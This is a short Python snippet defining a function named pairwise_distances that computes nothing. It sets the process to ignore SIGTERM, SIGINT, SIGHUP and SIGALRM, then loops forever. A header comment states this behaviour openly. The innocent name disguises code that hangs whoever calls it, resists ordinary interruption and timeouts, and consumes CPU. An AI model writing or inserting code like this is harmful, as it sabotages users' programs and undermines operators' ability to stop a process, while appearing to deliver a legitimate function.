# Ignores the usual termination signals, then never returns.
import signal


def pairwise_distances(x, y):
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM):
        signal.signal(number, signal.SIG_IGN)
    while True:
        pass
